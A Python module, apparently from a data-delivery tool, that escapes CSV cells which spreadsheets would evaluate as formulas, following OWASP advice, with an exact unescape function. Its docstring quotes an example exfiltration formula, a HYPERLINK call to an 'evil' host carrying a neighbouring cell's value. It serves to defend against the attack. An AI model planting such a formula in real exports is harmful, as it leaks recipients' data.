"""Spreadsheet formula injection: CSV cells a spreadsheet would run as a formula are neutralised.

A delivered CSV or a rectification notice is often opened in Excel or LibreOffice,
where a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR or LF before one)
is evaluated: ``=HYPERLINK("http://evil/?"&A2, "click")`` in a free-text field would
send a neighbour's data away. Following OWASP, such a value gets a leading ``'``,
which spreadsheets show as text and never evaluate.

Plain numbers (``-3``, ``+44``, ``-0.5``, ``1e-3``) are left alone: a value that is
only a number cannot carry a formula, and escaping it would turn the number into
text for a recipient who sums it. Pseudonyms are hex digests and never start with
a trigger character, so they are unchanged too.

A recipient gets the exact values back with :func:`unescape_value`. So that it can,
a value that already looks escaped (``'`` before what would be escaped, e.g. ``'=x``)
gets one more ``'``: escaping is one-to-one, and unescaping removes exactly one.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def escape_value(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula (or it looks escaped already)."""
    if isinstance(value, str) and (_formula(value) or _escaped(value)):
        return "'" + value
    return value


def unescape_value(value: Any) -> Any:
    """The exact inverse of :func:`escape_value`: ``unescape_value(escape_value(v)) == v`` for every ``v``."""
    if isinstance(value, str) and _escaped(value):
        return value[1:]
    return value


def _formula(value: str) -> bool:
    return value.startswith(TRIGGERS) and not _NUMBER.match(value)


def _escaped(value: str) -> bool:
    """``value`` is one or more ``'`` before a value a spreadsheet would run: what escaping produces."""
    body = value.lstrip("'")
    return len(body) < len(value) and _formula(body)


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell passed through :func:`escape_value` (numbers untouched)."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if not (values.dtype == object or pd.api.types.is_string_dtype(values)):
            continue
        # Vectorised first look: most cells start with none of the triggers and are left as they are.
        suspect = values.str.startswith((*TRIGGERS, "'"), na=False).astype(bool)
        if suspect.any():
            out.loc[suspect, column] = values[suspect].map(escape_value)
    return out
